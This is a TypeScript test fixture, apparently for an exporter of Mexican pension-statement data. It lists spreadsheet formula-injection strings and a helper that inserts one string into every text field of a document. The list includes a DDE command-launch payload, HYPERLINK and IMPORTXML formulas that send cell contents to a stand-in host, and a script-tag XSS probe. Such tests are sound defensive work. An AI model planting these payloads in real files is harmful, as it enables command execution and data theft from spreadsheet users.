import type { WordedDocument } from '../../../extension/engine.ts';

/** What people who mean harm, and people who mean nothing, have put into cells. */
export const naughty: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.invalid?"&A1,"pay")',
  '=IMPORTXML(CONCAT("https://example.invalid/?",CONCATENATE(A2:E2)),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'inocente;=1+1',
  'inocente\n=1+1',
  'inocente|-1+1',
  '"=1+1',
  '""",=1+1,"',
  '--',
  '-',
  '<script>alert(1)</script>',
  '&lt;&#61;1+1]]>',
  '\ud800 half a pair',
  '\u202e1+1=',
  '𝒻órmula ñandú 田中',
  'INF',
  'NaN',
  'TRUE',
  '',
];

/** A document in which every text that comes from the paper is the same one. */
export function withTexts(document: WordedDocument, text: string): WordedDocument {
  const changed: WordedDocument = JSON.parse(JSON.stringify(document), (key, value: unknown) =>
    (key === 'raw' || key === 'note' || key === 'file') && typeof value === 'string' ? text : value,
  );
  const { statement } = changed;
  const worded = [
    statement?.worker.name,
    statement?.siefore,
    statement?.afore,
    ...(statement?.movements ?? []).flatMap(({ concept, employerRfc }) => [concept, employerRfc]),
  ];
  for (const reading of worded) if (reading) reading.value = text;
  return changed;
}
